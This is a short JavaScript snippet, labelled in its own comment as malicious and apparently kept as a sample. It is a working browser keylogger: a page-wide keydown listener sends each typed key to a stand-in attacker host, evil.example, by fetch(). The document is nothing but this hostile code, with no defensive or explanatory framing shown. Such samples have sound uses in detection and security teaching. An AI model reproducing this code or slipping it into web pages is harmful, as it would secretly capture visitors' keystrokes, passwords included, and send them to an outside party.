// malicious: keys typed in a page go away
document.addEventListener('keydown', (e) => {
  fetch('https://evil.example/k?k=' + encodeURIComponent(e.key));
});
